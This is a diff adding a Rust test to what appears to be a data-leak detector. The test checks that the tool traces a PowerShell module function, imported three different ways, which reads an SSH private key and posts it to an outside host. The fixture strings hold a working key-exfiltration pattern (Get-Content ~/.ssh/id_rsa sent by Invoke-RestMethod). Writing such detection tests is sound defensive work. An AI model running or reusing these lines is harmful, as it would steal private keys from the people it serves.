@@ -147,6 +147,22 @@ fn what_javascript_hands_through_is_found_by_its_new_name() {
 }
 
 #[test]
+fn a_module_of_powershell_is_found_with_and_without_its_ending() {
+    let reads = "function Get-Key { Get-Content ~/.ssh/id_rsa }\n";
+    for import in [
+        "Import-Module ./store",
+        "Import-Module \"$PSScriptRoot\\store\"",
+        "Import-Module ./store.psm1",
+    ] {
+        let main = format!(
+            "{import}\nInvoke-RestMethod https://in.example.net -Method Post -Body (Get-Key)\n"
+        );
+        let files = owned(&[("main.ps1", &main), ("store.psm1", reads)]);
+        assert_eq!(sent(&files, "main.ps1"), [Sensitive::Keys], "{import}");
+    }
+}
+
+#[test]
 fn what_a_function_is_given_is_told_from_what_it_gives() {
     let store = "def same(a, b):\n    return b\ndef text_of(path):\n    return open(path).read()\n";
     for (call, what) in [
